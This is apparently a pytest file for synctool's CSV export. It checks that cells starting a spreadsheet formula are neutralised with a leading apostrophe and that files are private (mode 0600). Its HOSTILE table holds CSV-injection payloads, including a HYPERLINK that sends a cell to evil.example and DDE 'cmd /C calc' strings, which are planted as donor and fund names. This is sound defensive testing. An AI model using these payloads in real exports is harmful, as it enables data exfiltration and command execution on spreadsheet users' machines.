"""Every `--csv` file is safe to open in a spreadsheet and readable by synctool's user alone (invariant 10): a
text cell that would start a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) is written with a
leading ``'`` and the rest of its text intact, numbers are written as numbers, and the file is 0600. Through
the writer itself and through `synctool year-end check --csv` and `synctool reconcile --csv` on the fakes."""

from __future__ import annotations

import csv
import os
import re
from decimal import Decimal
from pathlib import Path

import pytest

from synctool.errors import InvalidInput
from synctool.ops.exports import FORMULA_STARTS, write_csv

#: a donor's or a fund's name that a spreadsheet would run, for each character that starts a formula
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
assert set(HOSTILE) == set(FORMULA_STARTS)
NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def read_back(path: Path) -> list[list[str]]:
    assert os.stat(path).st_mode & 0o777 == 0o600
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    # a negative number is no formula: the only cells that may start with "-" are numbers
    assert not [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)], rows
    return rows


def old_readable_file(path: Path) -> Path:
    path.write_text("left from last time\n")
    path.chmod(0o644)
    return path


@pytest.mark.parametrize("start", list(HOSTILE), ids=[repr(c) for c in HOSTILE])
def test_the_writer_neutralises_each_formula_start(tmp_path, start):
    text = HOSTILE[start]
    path = old_readable_file(tmp_path / "out.csv")
    rows = [
        {"name": text, "amount": Decimal("-25.00"), "count": -3, "ratio": -0.5, "note": None, "extra": text},
        {"name": "Ada Lovelace", "amount": "-25.00", "count": 1, "ratio": 1.5, "note": f"{text} (a note)"},
        {"name": 7, "amount": text, "count": 0, "ratio": 0.0, "note": "plain"},
    ]
    write_csv(path, ["name", "amount", "count", "ratio", "note"], rows, numbers=("amount",))
    header, first, second, third = read_back(path)
    assert header == ["name", "amount", "count", "ratio", "note"]  # "extra" is not a column
    assert first == ["'" + text, "-25.00", "-3", "-0.5", ""]  # numbers are not formulas
    assert second == ["Ada Lovelace", "-25.00", "1", "1.5", "'" + text + " (a note)"]  # an amount kept as text
    assert third == ["7", "'" + text, "0", "0.0", "plain"]  # an "amount" that is no number is text


def test_the_writer_refuses_a_directory(tmp_path):
    with pytest.raises(InvalidInput, match="is a directory"):
        write_csv(tmp_path, ["a"], [{"a": 1}])
    with pytest.raises(InvalidInput, match="cannot write"):
        write_csv(tmp_path / "no-such-folder" / "out.csv", ["a"], [{"a": 1}])


def extra_gifts(world, day: str) -> dict[str, str]:
    """One CRM gift with synctool's prefix that no platform explains, per formula start: its donor (an
    organisation) and its fund named with the hostile text. Returns external id -> the text."""
    planted = {}
    for n, text in enumerate(HOSTILE.values()):
        donor = world.crm.create_constituent({"is_org": True, "org_name": text})
        gid = world.crm.new_id()
        world.crm.gifts[gid] = {"id": gid, "constituent_id": donor["id"], "external_id": f"donations_EVIL{n}",
                                "received_amount": 10.0 + n, "deductible_amount": 10.0 + n, "received_date": day,
                                "gift_type_name": "Gift", "ack_template_name": "do_not_ack", "fund_name": text}  # fmt: skip
        planted[f"donations_EVIL{n}"] = text
    return planted


def test_reconcile_csv_neutralises_what_the_crm_holds(world, cli, tmp_path):
    planted = extra_gifts(world, "2026-10-09")
    path = old_readable_file(tmp_path / "october.csv")
    result = cli("reconcile", "--from", "2026-10-01", "--to", "2026-10-31", "--source", "donations", "--csv", str(path))
    assert result.exit_code == 1, result.output
    rows = read_back(path)
    header = rows[0]
    by_ext = {r[header.index("external_id")]: r for r in rows[1:]}
    assert set(by_ext) == set(planted)
    for ext, text in planted.items():
        row = by_ext[ext]
        assert row[header.index("fund")] == "'" + text and row[header.index("status")] == "extra"
        assert Decimal(row[header.index("crm_amount")]) >= 10


def test_year_end_csv_neutralises_donor_names(world, cli, tmp_path):
    planted = extra_gifts(world, "2025-04-04")
    path = old_readable_file(tmp_path / "ye.csv")
    result = cli("year-end", "check", "2025", "--quiet", "--csv", str(path))
    assert result.exit_code == 1, result.output
    rows = read_back(path)
    header = rows[0]
    names = {r[header.index("external_id")]: r[header.index("constituent")] for r in rows[1:] if r[0] == "extra"}
    assert names == {ext: "'" + text for ext, text in planted.items()}
    refused = cli("year-end", "check", "2025", "--quiet", "--csv", str(tmp_path))
    assert refused.exit_code == 2 and "is a directory" in refused.output
